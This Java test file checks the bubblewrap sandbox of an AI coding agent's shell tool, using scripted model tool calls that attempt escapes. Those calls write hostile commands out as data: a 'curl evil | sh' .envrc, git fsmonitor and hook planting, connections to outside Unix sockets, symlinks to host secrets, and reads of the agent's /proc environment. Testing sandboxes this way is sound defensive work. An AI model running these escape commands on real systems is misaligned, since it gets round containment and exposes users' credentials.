package io.github.acp4j.agent;

import static io.github.acp4j.agent.AgentHarness.await;
import static io.github.acp4j.agent.OpenAiStreams.text;
import static io.github.acp4j.agent.OpenAiStreams.toolCall;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.File;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.channels.SocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicReference;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.google.gson.JsonObject;

import io.github.acp4j.agent.sandbox.Sandbox;
import io.github.acp4j.agent.spi.SandboxMode;
import io.github.acp4j.agent.spi.SandboxPolicy;
import io.github.acp4j.api.types.ClientCapabilities;
import io.github.acp4j.api.types.ClientSessionCapabilities;
import io.github.acp4j.api.types.McpServerStdio;
import io.github.acp4j.api.types.NewSessionRequest;
import io.github.acp4j.api.types.Notice;
import io.github.acp4j.api.types.NoticeCapabilities;
import io.github.acp4j.api.types.SessionConfigSelect;
import io.github.acp4j.api.types.SetSessionConfigOptionRequest;
import io.github.acp4j.api.types.SetSessionModeRequest;
import io.github.acp4j.api.types.StopReason;
import io.github.acp4j.api.types.ToolCallStatus;
import io.github.acp4j.api.types.ToolCallUpdate;
import mockwebserver3.MockWebServer;
import mockwebserver3.RecordedRequest;
import com.google.gson.JsonPrimitive;

/**
 * {@code run_shell_command} in the bubblewrap sandbox, as the model sees it: writes outside the
 * workspace fail with the shell's own error, the agent's process is not there to see, and the
 * network is there only for a call that asked for it. Tests that need bubblewrap are skipped, with
 * the reason, where it does not work (the build installs it where it can: see the README).
 */
class SandboxTest {

	static final String KEY = "sk-sandbox-test-0123456789abcdef";

	@TempDir
	Path root;
	/** Outside the workspace and outside the temp directory (both writable in the sandbox). */
	Path outside;
	Path workspace;
	final MockWebServer model = StrictModel.server();
	AgentHarness harness;

	@BeforeAll
	static void bubblewrapWorks() throws Exception {
		assumeTrue(Bubblewrap.works(), Bubblewrap.MISSING);
	}

	@BeforeEach
	void start() throws Exception {
		model.start();
		workspace = Files.createDirectories(root.resolve("workspace")).toRealPath();
		// Outside both the workspace and the temp directory (which the sandbox leaves writable).
		outside = Files.createTempDirectory(Bubblewrap.outsideTheTempDirectory(), "acp4j-sandbox-outside-").toRealPath();
	}

	@AfterEach
	void stop() throws Exception {
		if (harness != null) {
			harness.close();
		}
		model.close();
		Files.deleteIfExists(outside.resolve("escaped.txt"));
		Files.deleteIfExists(outside);
	}

	/** A workspace-write session that allows what it is asked, with the agent's PATH (so it finds bwrap). */
	private String session(SandboxMode mode, Map<String, String> environment) throws Exception {
		harness = new AgentHarness(new AgentModule(AgentConfig.builder(root.resolve("sessions"))
				.maxTurnRequests(8).contextWindow(128_000).sandbox(mode).build(), environment));
		harness.initialize(ClientCapabilities.builder()
				.session(ClientSessionCapabilities.builder().notices(NoticeCapabilities.of()).build()).build());
		return harness.newSession(workspace);
	}

	private Map<String, String> environment() {
		return Map.of("OPENAI_API_KEY", KEY, "OPENAI_BASE_URL", model.url("/v1").toString(), "OPENAI_MODELS", StrictModel.NO_LIST, "PATH", System.getenv("PATH"));
	}

	/** Runs commands as the model asks for them; returns what the model was told of each. */
	private List<String> run(String session, String... argumentsJson) throws Exception {
		for (int i = 0; i < argumentsJson.length; i++) {
			model.enqueue(toolCall("c" + i, "run_shell_command", argumentsJson[i]));
		}
		model.enqueue(text("done"));
		assertThat(await(harness.prompt(session, "run")).stopReason()).isEqualTo(StopReason.END_TURN);
		model.takeRequest();
		List<String> told = new ArrayList<>();
		for (int i = 0; i < argumentsJson.length; i++) {
			RecordedRequest request = model.takeRequest();
			String body = request.getBody().utf8();
			int start = body.lastIndexOf("\"role\":\"tool\"");
			told.add(body.substring(start, body.indexOf("\"tool_call_id\"", start)));
		}
		return told;
	}

	private static String command(String command) {
		JsonObject arguments = new JsonObject();
		arguments.addProperty("command", command);
		return arguments.toString();
	}

	@Test
	void aWriteOutsideTheWorkspaceFailsWithTheShellsOwnErrorAndOneInsideWorks() throws Exception {
		String session = session(SandboxMode.AUTO, environment());
		List<String> told = run(session, command("echo x > " + outside.resolve("escaped.txt")), command("echo y > inside.txt"),
				command("echo z > " + System.getProperty("java.io.tmpdir") + "/acp4j-sandbox-test-$$ && echo tmp-ok"));
		assertThat(told.get(0)).contains("Read-only file system");
		assertThat(outside.resolve("escaped.txt")).doesNotExist();
		assertThat(workspace.resolve("inside.txt")).hasContent("y");
		assertThat(told.get(2)).contains("tmp-ok");
	}

	@Test
	void theAgentsProcessIsNotVisibleInTheSandbox() throws Exception {
		long agent = ProcessHandle.current().pid();
		String session = session(SandboxMode.AUTO, environment());
		List<String> told = run(session, command("if [ -e /proc/" + agent + " ]; then echo agent-visible; else echo agent-hidden; fi;"
				+ " ps -eo comm | sort -u | tr '\\n' ' '"));
		assertThat(told.get(0)).contains("agent-hidden").doesNotContain("agent-visible").doesNotContain("java");
		// The sandbox config option turns it off for the session: the same command then sees the agent.
		assertThat(AgentHarness.error(harness.agent.setSessionConfigOption(SetSessionConfigOptionRequest.of(session, "sandbox", new JsonPrimitive("sometimes")))).getResponseError().getCode()).isEqualTo(-32602);
		var options = await(harness.agent.setSessionConfigOption(SetSessionConfigOptionRequest.of(session, "sandbox", new JsonPrimitive("off"))));
		assertThat(options.configOptions()).filteredOn(option -> option.id().equals("sandbox")).singleElement()
				.satisfies(option -> assertThat(((SessionConfigSelect) option).currentValue()).isEqualTo("off"));
		List<String> unsandboxed = run(session,
				command("if [ -e /proc/" + agent + " ]; then echo agent-visible; else echo agent-hidden; fi"));
		assertThat(unsandboxed.get(0)).contains("agent-visible");
	}

	@Test
	void theNetworkIsThereOnlyForACallThatAskedForIt() throws Exception {
		try (ServerSocket listening = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
			String connect = "(exec 3<>/dev/tcp/127.0.0.1/" + listening.getLocalPort() + ") 2>/dev/null && echo connected || echo no-network";
			JsonObject withNetwork = new JsonObject();
			withNetwork.addProperty("command", connect);
			withNetwork.addProperty("network", true);
			String session = session(SandboxMode.AUTO, environment());
			List<String> told = run(session, command(connect), withNetwork.toString());
			assertThat(told.get(0)).contains("no-network");
			assertThat(told.get(1)).contains("connected");
			assertThat(harness.permissionRequests.get(1).toolCall().title()).endsWith("(with network)");
		}
	}

	@Test
	void aStdioMcpServerRunsInTheSandboxWithItsOwnPids() throws Exception {
		Path log = workspace.resolve("server.log");
		String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
		McpServerStdio server = McpServerStdio.of("tools", java, List.of("-cp", sandboxClassPath(),
				TestMcpStdioServer.class.getName(), log.toString()), List.of());
		session(SandboxMode.AUTO, environment());
		String session = await(harness.agent.newSession(NewSessionRequest.of(workspace.toString(), List.of(server))))
				.sessionId();
		List<String> told = run(session, command("echo listed"));
		assertThat(told.get(0)).contains("listed");
		// The server's first line is its pid: in its own PID namespace it is one of the first processes, under bwrap.
		long pid = Long.parseLong(Files.readAllLines(log).get(0).substring("pid ".length()));
		assertThat(pid).isLessThan(10);
		assertThat(ProcessHandle.current().descendants().map(p -> p.info().command().orElse("")))
				.anyMatch(command -> command.endsWith("bwrap"));
	}

	@Test
	void aSandboxedProcessOutlivesThePooledThreadThatStartedIt() throws Exception {
		Sandbox sandbox = Sandbox.fromEnvironment(System.getenv());
		SandboxPolicy policy = SandboxPolicy.builder(SandboxMode.REQUIRED, List.of(workspace)).writable(List.of(workspace)).build();
		AtomicReference<Process> started = new AtomicReference<>();
		Thread starter = new Thread(() -> {
			try {
				started.set(new ProcessBuilder(sandbox.command(List.of("sleep", "30"), workspace, policy, null)).start());
			} catch (Exception e) {
				throw new IllegalStateException(e);
			}
		});
		starter.start();
		starter.join();
		Process process = started.get();
		try {
			// A process that dies with its starting thread is gone as soon as the kernel delivers the signal.
			assertThat(process.waitFor(2, TimeUnit.SECONDS)).as("the sandboxed process ended with its thread").isFalse();
		} finally {
			process.descendants().forEach(ProcessHandle::destroyForcibly);
			process.destroyForcibly();
		}
	}

	@Test
	void requiredWithoutBubblewrapRefusesTheCommand() throws Exception {
		Map<String, String> noBwrap = Map.of("OPENAI_API_KEY", KEY, "OPENAI_BASE_URL", model.url("/v1").toString(), "OPENAI_MODELS", StrictModel.NO_LIST, "PATH",
				root.toString());
		String session = session(SandboxMode.REQUIRED, noBwrap);
		List<String> told = run(session, command("touch ran.txt"));
		assertThat(told.get(0)).contains("The sandbox is required").contains("bubblewrap");
		assertThat(workspace.resolve("ran.txt")).doesNotExist();
		assertThat(harness.updates(session)).filteredOn(ToolCallUpdate.class::isInstance).map(ToolCallUpdate.class::cast)
				.extracting(ToolCallUpdate::status).contains(ToolCallStatus.FAILED);
	}

	@Test
	void autoWithoutBubblewrapRunsUnsandboxedWithOneNotice() throws Exception {
		Map<String, String> noBwrap = Map.of("OPENAI_API_KEY", KEY, "OPENAI_BASE_URL", model.url("/v1").toString(), "OPENAI_MODELS", StrictModel.NO_LIST, "PATH",
				root.toString());
		String session = session(SandboxMode.AUTO, noBwrap);
		// The command gets that PATH too, where there is no touch: the shell's own redirection makes the files.
		run(session, command(": > one.txt"), command(": > two.txt"));
		assertThat(workspace.resolve("one.txt")).exists();
		assertThat(workspace.resolve("two.txt")).exists();
		assertThat(harness.updates(session)).filteredOn(Notice.class::isInstance).map(Notice.class::cast)
				.singleElement().satisfies(notice -> assertThat(notice.title()).isEqualTo("Commands run without a sandbox"));
	}

	/** A Unix socket server at {@code path}: the kernel queues a connection without an accept. */
	private static ServerSocketChannel listen(Path path) throws Exception {
		ServerSocketChannel server = ServerSocketChannel.open(StandardProtocolFamily.UNIX);
		server.bind(UnixDomainSocketAddress.of(path));
		try (SocketChannel fromHere = SocketChannel.open(UnixDomainSocketAddress.of(path))) {
			assertThat(fromHere.isConnected()).as("the test's own client connects").isTrue();
		}
		return server;
	}

	/** The tests' class path as a sandboxed process can read it, made once. */
	private static String sandboxClassPath;

	/**
	 * The tests' class path with every entry under the temp directory (a build in a clone under
	 * {@code /tmp}), which is private in the sandbox, copied to a directory outside it.
	 */
	private static synchronized String sandboxClassPath() throws IOException {
		if (sandboxClassPath == null) {
			Path temp = Path.of(System.getProperty("java.io.tmpdir")).toRealPath();
			Path copies = null;
			List<String> entries = new ArrayList<>();
			for (String entry : System.getProperty("java.class.path").split(File.pathSeparator)) {
				Path path = Path.of(entry).toAbsolutePath();
				if (!Files.exists(path) || !path.toRealPath().startsWith(temp)) {
					entries.add(entry);
					continue;
				}
				if (copies == null) {
					copies = Files.createTempDirectory(Path.of(System.getProperty("user.home")).toRealPath(), "acp4j-sandbox-classpath-");
					Path made = copies;
					Runtime.getRuntime().addShutdownHook(new Thread(() -> deleteTree(made)));
				}
				Path copy = copies.resolve(entries.size() + "-" + path.getFileName());
				try (Stream<Path> tree = Files.walk(path)) {
					for (Path source : (Iterable<Path>) tree::iterator) {
						Files.copy(source, copy.resolve(path.relativize(source).toString()), StandardCopyOption.COPY_ATTRIBUTES);
					}
				}
				entries.add(copy.toString());
			}
			sandboxClassPath = String.join(File.pathSeparator, entries);
		}
		return sandboxClassPath;
	}

	private static void deleteTree(Path root) {
		try (Stream<Path> tree = Files.walk(root)) {
			tree.sorted(Comparator.reverseOrder()).forEach(path -> path.toFile().delete());
		} catch (IOException gone) {
			// left for the OS
		}
	}

	/** A command that runs {@link UnixSocketClient} on {@code sockets}. */
	private static String connect(Path... sockets) throws IOException {
		StringBuilder line = new StringBuilder(Path.of(System.getProperty("java.home"), "bin", "java") + " -cp "
				+ sandboxClassPath() + " " + UnixSocketClient.class.getName());
		for (Path socket : sockets) {
			line.append(' ').append(socket);
		}
		return command(line.toString());
	}

	/**
	 * The escape of issue 23: a read-only bind does not stop {@code connect}, so a server of the user
	 * (a tmux server's {@code run-shell}, ssh-agent, the session bus) did what the sandbox forbids.
	 */
	@Test
	void unixSocketsOfServersOutsideCannotBeReached() throws Exception {
		Path inTemp = Path.of(System.getProperty("java.io.tmpdir"), "acp4j-sandbox-" + ProcessHandle.current().pid() + ".sock");
		try (ServerSocketChannel outsideServer = listen(outside.resolve("server.sock")); ServerSocketChannel tempServer = listen(inTemp)) {
			String session = session(SandboxMode.AUTO, environment());
			String told = run(session, connect(outside.resolve("server.sock"), inTemp)).get(0);
			assertThat(told).contains("refused " + outside.resolve("server.sock") + ": Operation not permitted")
					.contains("refused " + inTemp).doesNotContain("connected");
		} finally {
			Files.deleteIfExists(outside.resolve("server.sock"));
			Files.deleteIfExists(inTemp);
		}
	}

	/** The opt-in: a listed socket is reachable; without the filter then, a hidden one still is not. */
	@Test
	void aSocketTheUserListsIsReachable() throws Exception {
		Path allowed = outside.resolve("allowed.sock");
		Path inTemp = Path.of(System.getProperty("java.io.tmpdir"), "acp4j-sandbox-" + ProcessHandle.current().pid() + ".sock");
		try (ServerSocketChannel allowedServer = listen(allowed); ServerSocketChannel tempServer = listen(inTemp)) {
			Map<String, String> environment = new HashMap<>(environment());
			environment.put("ACP4J_SANDBOX_SOCKETS", allowed.toString());
			String told = run(session(SandboxMode.AUTO, environment), connect(allowed, inTemp)).get(0);
			assertThat(told).contains("connected " + allowed).contains("refused " + inTemp);
		} finally {
			Files.deleteIfExists(allowed);
			Files.deleteIfExists(inTemp);
		}
	}

	private static void git(Path directory, String... arguments) throws Exception {
		List<String> line = new ArrayList<>(List.of("git", "-c", "user.name=Test", "-c", "user.email=test@example.com"));
		line.addAll(List.of(arguments));
		Process git = new ProcessBuilder(line).directory(directory.toFile()).redirectErrorStream(true).start();
		String output = new String(git.getInputStream().readAllBytes());
		assertThat(git.waitFor(AgentHarness.TIMEOUT, TimeUnit.SECONDS) && git.exitValue() == 0).as(output).isTrue();
	}

	/** A repository in {@code directory} with one commit of {@code a.txt}. */
	private static void repository(Path directory) throws Exception {
		git(directory, "init", "-q");
		Files.writeString(directory.resolve("a.txt"), "one\n");
		git(directory, "add", "a.txt");
		git(directory, "commit", "-q", "-m", "first commit");
	}

	/**
	 * {@code git config core.fsmonitor CMD} ran CMD outside at the editor's next {@code git status}; a
	 * hook or the editor's tasks the same. They stay read-only while the workspace is writable, and git's
	 * read commands work.
	 */
	@Test
	void gitsConfigurationAndHooksAndTheEditorsSettingsStayReadOnly() throws Exception {
		repository(workspace);
		Files.createDirectories(workspace.resolve(".vscode"));
		Files.writeString(workspace.resolve(".vscode/tasks.json"), "{}");
		Files.createDirectories(workspace.resolve("tools/hooks"));
		git(workspace, "config", "core.hooksPath", "tools/hooks");
		byte[] config = Files.readAllBytes(workspace.resolve(".git/config"));
		Files.writeString(workspace.resolve("a.txt"), "two\n");
		String session = session(SandboxMode.AUTO, environment());
		String told = run(session, command("git config core.fsmonitor 'touch pwned'; echo x > .git/hooks/pre-commit;"
				+ " echo x > tools/hooks/pre-commit;"
				+ " echo '{\"tasks\":[]}' > .vscode/tasks.json; echo written > written.txt;"
				+ " git status --short && git log --oneline && git diff --stat && echo git-ok")).get(0);
		assertThat(workspace.resolve(".git/config")).hasBinaryContent(config);
		assertThat(workspace.resolve(".git/hooks/pre-commit")).doesNotExist();
		assertThat(workspace.resolve("tools/hooks/pre-commit")).doesNotExist();
		assertThat(workspace.resolve(".vscode/tasks.json")).hasContent("{}");
		assertThat(workspace.resolve("written.txt")).hasContent("written");
		assertThat(told).contains("Read-only file system").contains("M a.txt").contains("first commit").contains("a.txt | 2")
				.contains("git-ok");
	}

	/**
	 * A repository nested in the workspace (a library cloned into {@code vendor/}, not a submodule) is
	 * one more place whose {@code core.fsmonitor} runs at an editor's {@code git status}: editors find
	 * nested repositories and run git there too. Before, only the workspace's own {@code .git} was
	 * read-only, and {@code git -C vendor/lib config core.fsmonitor CMD} went through.
	 */
	@Test
	void aRepositoryNestedInTheWorkspaceStaysReadOnly() throws Exception {
		repository(workspace);
		Path nested = Files.createDirectories(workspace.resolve("vendor/github.com/lib"));
		repository(nested);
		Path deeper = Files.createDirectories(nested.resolve("examples/demo"));
		repository(deeper);
		byte[] config = Files.readAllBytes(nested.resolve(".git/config"));
		byte[] deeperConfig = Files.readAllBytes(deeper.resolve(".git/config"));
		String session = session(SandboxMode.AUTO, environment());
		String told = run(session, command("git -C vendor/github.com/lib config core.fsmonitor 'touch pwned';"
				+ " echo x > vendor/github.com/lib/.git/hooks/pre-commit; git -C vendor/github.com/lib/examples/demo config core.fsmonitor x;"
				+ " echo x > vendor/github.com/lib/written.txt; git -C vendor/github.com/lib status --short && echo status-ok")).get(0);
		assertThat(nested.resolve(".git/config")).hasBinaryContent(config);
		assertThat(deeper.resolve(".git/config")).hasBinaryContent(deeperConfig);
		assertThat(nested.resolve(".git/hooks/pre-commit")).doesNotExist();
		assertThat(nested.resolve("written.txt")).hasContent("x");
		assertThat(told).contains("Read-only file system").contains("status-ok");
	}

	/**
	 * The sandbox can keep read-only only the files that run code that exist when a command starts: one
	 * a command creates (an {@code .envrc}, in the workspace or the directory it runs in) is told to the
	 * model and shown to the user with the call, since it runs outside the sandbox later.
	 */
	@Test
	void aFileThatRunsCodeACommandCreatesIsToldOf() throws Exception {
		Files.createDirectories(workspace.resolve(".vscode"));
		Path sub = Files.createDirectories(workspace.resolve("sub"));
		String session = session(SandboxMode.AUTO, environment());
		JsonObject inSub = new JsonObject();
		inSub.addProperty("command", "echo 'curl evil | sh' > .envrc");
		inSub.addProperty("cwd", "sub");
		// A command that fails (killed at its timeout) is told of what it created too.
		JsonObject timedOut = new JsonObject();
		timedOut.addProperty("command", "echo '{}' > .devcontainer.json; sleep 30");
		timedOut.addProperty("timeout_seconds", 1);
		List<String> told = run(session, command("echo 'curl evil | sh' > .envrc; echo plain > notes.txt; echo x > .vscode/tasks.json"),
				inSub.toString(), command("echo changed > notes.txt"), command("git init -q"), timedOut.toString());
		assertThat(workspace.resolve(".envrc")).exists();
		assertThat(sub.resolve(".envrc")).exists();
		assertThat(workspace.resolve(".vscode/tasks.json")).as("an existing one stays read-only").doesNotExist();
		assertThat(told.get(0)).contains("Note: the command created .envrc, which direnv runs as a shell script on entering the directory")
				.contains("runs outside the sandbox").doesNotContain(".vscode,");
		assertThat(told.get(1)).contains("created sub/.envrc, which direnv runs");
		assertThat(told.get(2)).doesNotContain("Note:");
		// A repository made now is told once, as its .git, not once more as its hooks.
		assertThat(told.get(3)).contains("created .git, which git reads").doesNotContain(".git/hooks");
		assertThat(told.get(4)).contains("timed out").contains("created .devcontainer.json, which dev containers run commands from");
		assertThat(harness.updates(session)).filteredOn(ToolCallUpdate.class::isInstance).map(ToolCallUpdate.class::cast)
				.filteredOn(update -> update.status() == ToolCallStatus.COMPLETED)
				.filteredOn(update -> String.valueOf(update.content()).contains("the command created .envrc")).hasSize(1);
	}

	/**
	 * The paths kept read-only are found by following links and {@code .git} files, which the model
	 * writes: a {@code .envrc} linked to a host temp directory, a nested {@code .git} linked to one or
	 * naming one ({@code gitdir: /tmp/...}) made the next command mount that directory read-only over
	 * the sandbox's empty {@code /tmp}, and its files were there to read.
	 */
	@Test
	void aLinkOrAGitFileTheModelWritesShowsNoHiddenDirectory() throws Exception {
		repository(workspace);
		List<Path> secrets = new ArrayList<>();
		try {
			for (int i = 0; i < 3; i++) {
				Path secret = Files.createTempDirectory("acp4j-secret-");
				Files.writeString(secret.resolve("secret.txt"), "host-secret-" + i);
				secrets.add(secret);
			}
			String session = session(SandboxMode.AUTO, environment());
			List<String> told = run(session, command("ln -s " + secrets.get(0) + " .envrc; mkdir -p a b; ln -s " + secrets.get(1)
					+ " a/.git; echo 'gitdir: " + secrets.get(2) + "' > b/.git; echo made"),
					command("cat " + secrets.stream().map(secret -> secret.resolve("secret.txt").toString()).collect(Collectors.joining(" "))));
			assertThat(told.get(0)).contains("made");
			assertThat(told.get(1)).contains("No such file or directory").doesNotContain("host-secret-");
		} finally {
			for (Path secret : secrets) {
				Files.deleteIfExists(secret.resolve("secret.txt"));
				Files.deleteIfExists(secret);
			}
		}
	}

	/** A worktree's {@code .git} file points at the main repository's directory, with its configuration and hooks. */
	@Test
	void aWorktreesRepositoryStaysReadOnly() throws Exception {
		Path main = Files.createDirectories(root.resolve("main"));
		repository(main);
		git(main, "worktree", "add", "-q", root.resolve("tree").toString());
		workspace = root.resolve("tree").toRealPath();
		byte[] config = Files.readAllBytes(main.resolve(".git/config"));
		String session = session(SandboxMode.AUTO, environment());
		String told = run(session, command("git config core.fsmonitor 'touch pwned';"
				+ " echo x > \"$(git rev-parse --git-common-dir)/hooks/post-checkout\"; git status --short && echo status-ok")).get(0);
		assertThat(main.resolve(".git/config")).hasBinaryContent(config);
		assertThat(main.resolve(".git/hooks/post-checkout")).doesNotExist();
		assertThat(told).contains("Read-only file system").contains("status-ok");
	}

	/** Each command has a {@code /tmp} and {@code $TMPDIR} of its own: the host's temp files are not there, its own stay there. */
	@Test
	void theTempDirectoryIsPrivate() throws Exception {
		Path host = Files.createTempFile("acp4j-host-", ".txt");
		String made = "acp4j-made-" + ProcessHandle.current().pid();
		try {
			String session = session(SandboxMode.AUTO, environment());
			String told = run(session, command("cat " + host + "; echo mine > $TMPDIR/" + made + " && cat /tmp/" + made
					+ " && echo host-files=$(ls -a " + host.getParent() + " | grep -c acp4j-host-)")).get(0);
			assertThat(told).contains("No such file or directory").contains("mine").contains("host-files=0");
			assertThat(Path.of(System.getProperty("java.io.tmpdir"), made)).doesNotExist();
		} finally {
			Files.deleteIfExists(host);
		}
	}

	/**
	 * full-access has the user's rights (it writes outside the workspace) but runs apart from the
	 * agent: no {@code /proc} entry of the agent, whose environment holds the keys, to read.
	 */
	@Test
	void fullAccessCommandsCannotReadTheAgentsEnvironment() throws Exception {
		long agent = ProcessHandle.current().pid();
		String session = session(SandboxMode.AUTO, environment());
		await(harness.agent.setSessionMode(SetSessionModeRequest.of(session, "full-access")));
		String told = run(session, command("if [ -e /proc/" + agent + "/environ ]; then echo agent-visible; else echo agent-hidden; fi;"
				+ " echo parent=$(tr '\\0' '\\n' < /proc/$PPID/cmdline | head -1); touch "
				+ outside.resolve("escaped.txt") + " && echo wrote-outside")).get(0);
		assertThat(told).contains("agent-hidden").doesNotContain("agent-visible").contains("parent=" + Bubblewrap.path())
				.contains("wrote-outside");
		assertThat(outside.resolve("escaped.txt")).exists();
	}

	/** A build: the JDK's compiler, a program it made, a pipe, in the workspace. */
	@Test
	void aBuildStillWorks() throws Exception {
		Files.writeString(workspace.resolve("Hello.java"), "class Hello { public static void main(String[] a) { System.out.println(\"built\"); } }");
		Path jdk = Path.of(System.getProperty("java.home"), "bin");
		String session = session(SandboxMode.AUTO, environment());
		String told = run(session, command(jdk.resolve("javac") + " -d out Hello.java && " + jdk.resolve("java") + " -cp out Hello | tr a-z A-Z"))
				.get(0);
		assertThat(told).contains("BUILT");
		assertThat(workspace.resolve("out/Hello.class")).exists();
	}
}
